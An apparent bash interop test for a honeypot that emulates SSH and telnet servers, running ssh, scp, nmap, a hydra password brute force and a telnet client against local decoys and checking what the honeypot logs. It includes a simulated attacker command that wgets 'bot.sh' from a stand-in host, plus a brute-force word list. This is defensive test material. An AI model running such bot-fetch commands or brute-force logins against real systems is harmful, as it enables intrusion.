#!/usr/bin/env bash
# SSH and telnet deckies against the real tools: OpenSSH `ssh` through
# sshpass (PTY shell and exec), `scp` upload (sftp mode and legacy -O),
# `hydra -t 4` with a 20-word list containing the password (it must find it,
# and decnet.log must hold exactly one auth_attempt per hydra attempt),
# `nmap -sV` naming OpenSSH with the persona's version, and a telnet login
# (python socket client). Asserts on DATA_DIR/decnet.log. Installs what it needs.
set -euo pipefail
cd "$(dirname "$0")/../.."

NAME=ssh.sh
. scripts/lib/interop.sh
interop_need ssh:openssh-client sshpass:sshpass hydra:hydra nmap:nmap python3:python3
interop_workdir decnet-ssh

SHELLBOX=127.0.61.50
BRUTE=127.0.61.51
TELNET=127.0.61.52

cat >"$WORK/fleet.ini" <<EOF
[general]
net = 127.0.61.0/24

[shell01]
ip = $SHELLBOX
services = ssh
distro = debian

[shell01.ssh]
password = toor
user = deploy
user_password = s3cret

[brute01]
ip = $BRUTE
services = ssh
distro = debian

[brute01.ssh]
password = dragon77

[tel01]
ip = $TELNET
services = telnet
distro = debian

[tel01.telnet]
password = telnetpw
EOF

interop_serve "$SHELLBOX" "$(p 22)" 19000


SSHOPTS=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no
         -o PreferredAuthentications=password,keyboard-interactive -o LogLevel=ERROR -o ConnectTimeout=10)

# --- nmap -sV: OpenSSH with the persona's version (debian: OpenSSH_9.2p1 Debian-2+deb12u10, what Debian 12 ships)
nmap -sV -Pn -n -p "$(p 22)" "$SHELLBOX" -oN "$WORK/nmap.txt" >/dev/null 2>&1 || fail "nmap run"
grep -E "^$(p 22)/tcp +open +ssh +OpenSSH 9\.2p1 Debian 2\+deb12u10" "$WORK/nmap.txt" >/dev/null \
    || { cat "$WORK/nmap.txt"; fail "nmap did not report OpenSSH 9.2p1 Debian 2+deb12u10"; }
grep -v "^#" "$WORK/nmap.txt" | grep -qi decnet && fail "nmap output names decnet"

# --- exec
out=$(sshpass -p toor ssh "${SSHOPTS[@]}" -p "$(p 22)" root@$SHELLBOX 'uname -a; id') || fail "ssh exec ($out)"
grep -q "^Linux .* x86_64 GNU/Linux$" <<<"$out" || fail "uname -a output: $out"
grep -q "^uid=0(root) gid=0(root) groups=0(root)$" <<<"$out" || fail "id output: $out"
expect_log "ssh login with HASSH" 'shell01 ssh - auth_attempt' 'username="root"' 'success="true"' \
    'client_version="SSH-2.0-OpenSSH_' 'hassh="[0-9a-f]{32}"'
expect_log "exec command" 'shell01 ssh - command' 'command="uname -a; id"'

# --- the key exchange and MACs Debian 12's sshd offers (added to the vendored
# russh): each one alone logs in and carries a command whose output spans
# several 1 KiB UMAC chunks; an scp upload covers the client-to-server side.
for kex in sntrup761x25519-sha512@openssh.com sntrup761x25519-sha512; do
    out=$(sshpass -p toor ssh "${SSHOPTS[@]}" -o KexAlgorithms=$kex -p "$(p 22)" root@$SHELLBOX 'echo kex-ok') \
        || fail "ssh -o KexAlgorithms=$kex ($out)"
    [ "$out" = kex-ok ] || fail "ssh -o KexAlgorithms=$kex: $out"
done
for mac in umac-64-etm@openssh.com umac-128-etm@openssh.com umac-64@openssh.com umac-128@openssh.com; do
    out=$(sshpass -p toor ssh "${SSHOPTS[@]}" -o MACs=$mac -c aes128-ctr -p "$(p 22)" root@$SHELLBOX \
        'echo mac-ok; cat /proc/cpuinfo') || fail "ssh -o MACs=$mac ($out)"
    [ "$(head -1 <<<"$out")" = mac-ok ] && [ "${#out}" -gt 4096 ] || fail "ssh -o MACs=$mac: ${out:0:200}"
    head -c 20000 /dev/urandom >"$WORK/umac.bin"
    sshpass -p toor scp "${SSHOPTS[@]}" -o MACs=$mac -c aes128-ctr -P "$(p 22)" "$WORK/umac.bin" \
        root@$SHELLBOX:/tmp/umac.bin >"$WORK/scp-umac.out" 2>&1 || { cat "$WORK/scp-umac.out"; fail "scp with $mac"; }
done
# With default options the client picks sntrup761, as against Debian 12's sshd.
verbose=$(sshpass -p toor ssh -o LogLevel=DEBUG1 "${SSHOPTS[@]}" -p "$(p 22)" root@$SHELLBOX true 2>&1 | tr -d '\r') \
    || fail "ssh -v ($verbose)"
grep -q "kex: algorithm: sntrup761x25519-sha512$" <<<"$verbose" || { echo "$verbose"; fail "default kex is not sntrup761"; }
grep -q "kex: server->client cipher: chacha20-poly1305@openssh.com MAC: <implicit>" <<<"$verbose" \
    || { echo "$verbose"; fail "default cipher"; }

# --- PTY shell (TERM=xterm: bash 5.2 brackets pastes and sets the window
# title, but colours only *-256color prompts)
printf 'whoami\ncd /tmp && pwd\nwget http://203.0.113.9/bot.sh\nexit 0\n' \
    | TERM=xterm timeout 30 sshpass -p s3cret ssh -tt "${SSHOPTS[@]}" -p "$(p 22)" deploy@$SHELLBOX >"$WORK/shell.out" 2>&1 \
    || { cat "$WORK/shell.out"; fail "ssh shell"; }
tr -d '\r' <"$WORK/shell.out" >"$WORK/shell.txt"
# Each output follows readline's bracketed-paste-off sequence.
paste_off=$'\e\\[?2004l'
grep -q "^${paste_off}deploy$" "$WORK/shell.txt" || { cat "$WORK/shell.txt"; fail "whoami in shell"; }
grep -q "^${paste_off}/tmp$" "$WORK/shell.txt" || { cat "$WORK/shell.txt"; fail "cd/pwd in shell"; }
grep -q 'deploy@[a-z0-9-]*:/tmp\$ ' "$WORK/shell.txt" || { cat "$WORK/shell.txt"; fail "prompt"; }
expect_log "shell command" 'shell01 ssh - command' 'command="whoami"' 'user="deploy"'
expect_log "wget recorded" 'shell01 ssh - file_download' 'url="http://203.0.113.9/bot.sh"'
ls "$DATA"/deckies/shell01/transcripts/*.cast >/dev/null 2>&1 || fail "no asciicast transcript"
grep -l '"whoami' "$DATA"/deckies/shell01/transcripts/*.cast >/dev/null || fail "transcript lacks input"

# --- scp upload: sftp mode (default) and legacy protocol (-O)
head -c 20000 /dev/urandom >"$WORK/payload1.bin"
head -c 3000 /dev/urandom >"$WORK/payload2.bin"
sha1=$(sha256sum "$WORK/payload1.bin" | cut -d' ' -f1)
sha2=$(sha256sum "$WORK/payload2.bin" | cut -d' ' -f1)
sshpass -p toor scp "${SSHOPTS[@]}" -P "$(p 22)" "$WORK/payload1.bin" root@$SHELLBOX:/tmp/ >"$WORK/scp1.out" 2>&1 \
    || { cat "$WORK/scp1.out"; fail "scp (sftp mode)"; }
sshpass -p toor scp -O "${SSHOPTS[@]}" -P "$(p 22)" "$WORK/payload2.bin" root@$SHELLBOX:/root/p2.bin >"$WORK/scp2.out" 2>&1 \
    || { cat "$WORK/scp2.out"; fail "scp -O"; }
expect_log "sftp upload" 'shell01 ssh - file_upload' "sha256=\"$sha1\"" 'via="sftp"'
expect_log "scp upload" 'shell01 ssh - file_upload' "sha256=\"$sha2\"" 'via="scp"' 'path="/root/p2.bin"'
cmp "$WORK/payload1.bin" "$DATA/artifacts/$sha1" || fail "artifact 1 content"
cmp "$WORK/payload2.bin" "$DATA/artifacts/$sha2" || fail "artifact 2 content"
sshpass -p toor scp -O "${SSHOPTS[@]}" -P "$(p 22)" root@$SHELLBOX:/root/p2.bin "$WORK/back.bin" >"$WORK/scp3.out" 2>&1 \
    || { cat "$WORK/scp3.out"; fail "scp -O download"; }
cmp "$WORK/payload2.bin" "$WORK/back.bin" || fail "scp -O download content"
out=$(sshpass -p toor ssh "${SSHOPTS[@]}" -p "$(p 22)" root@$SHELLBOX 'ls -l /tmp /root/p2.bin') || fail "ls after upload"
grep -q " payload1.bin$" <<<"$out" || fail "upload not in the VFS: $out"
grep -q " 3000 .* /root/p2.bin$" <<<"$out" || fail "scp -O upload not in the VFS: $out"

# --- hydra: 20 words, the password among them; attempts == auth_attempt lines
for w in 123456 password admin root qwerty letmein 12345678 welcome monkey abc123 \
         dragon77 football iloveyou 111111 sunshine master shadow trustno1 passw0rd baseball; do
    echo "$w"
done >"$WORK/words.txt"
[ "$(wc -l <"$WORK/words.txt")" = 20 ] || fail "word list"
hydra -l root -P "$WORK/words.txt" -t 4 -V -I -s "$(p 22)" "ssh://$BRUTE" >"$WORK/hydra.out" 2>&1 || true
grep -q 'login: root   password: dragon77' "$WORK/hydra.out" || { cat "$WORK/hydra.out"; fail "hydra did not find the password"; }
attempts=$(grep -c '^\[ATTEMPT\]' "$WORK/hydra.out" || true)
sleep 0.5
logged=$(grep -c 'brute01 ssh - auth_attempt' "$LOG" || true)
echo "ssh.sh: hydra attempts=$attempts, auth_attempt events=$logged"
[ "$attempts" -gt 0 ] && [ "$attempts" = "$logged" ] || { cat "$WORK/hydra.out"; fail "hydra made $attempts attempts, log has $logged auth_attempt lines"; }

# --- telnet login with the decky's own telnet credentials, shared shell
python3 - "$TELNET" "$(p 23)" >"$WORK/telnet.out" 2>&1 <<'PY' || { cat "$WORK/telnet.out"; fail "telnet session"; }
import socket, sys, time
host, port = sys.argv[1], int(sys.argv[2])
s = socket.create_connection((host, port), timeout=10)
buf = b""
def strip(data):
    out, i = bytearray(), 0
    while i < len(data):
        b = data[i]
        if b == 255 and i + 1 < len(data):
            c = data[i + 1]
            if c in (251, 252, 253, 254):
                i += 3; continue
            if c == 250:
                j = data.find(b"\xff\xf0", i)
                i = len(data) if j < 0 else j + 2; continue
            i += 2; continue
        out.append(b); i += 1
    return bytes(out)
def until(needle, limit=10):
    global buf
    end = time.time() + limit
    while needle.encode() not in buf:
        if time.time() > end:
            raise SystemExit(f"timeout waiting for {needle!r}; got {buf!r}")
        chunk = s.recv(4096)
        if not chunk:
            raise SystemExit(f"closed waiting for {needle!r}; got {buf!r}")
        buf += strip(chunk)
    text, buf = buf.decode(errors="replace"), b""
    return text
until("login: "); s.sendall(b"root\r\n")
until("Password: "); s.sendall(b"telnetpw\r\n")
until("# "); s.sendall(b"uname -r; cat /etc/hostname\r\n")
out = until("# ")
print(out)
assert "-amd64" in out, out
s.sendall(b"exit\r\n")
print(until("logout"))
PY
expect_log "telnet login" 'tel01 telnet - auth_attempt' 'username="root"' 'success="true"'
expect_log "telnet command" 'tel01 telnet - command' 'command="uname -r; cat /etc/hostname"'

kill "$PID"; wait "$PID" 2>/dev/null || true; PID=""
echo "ssh.sh: OK"
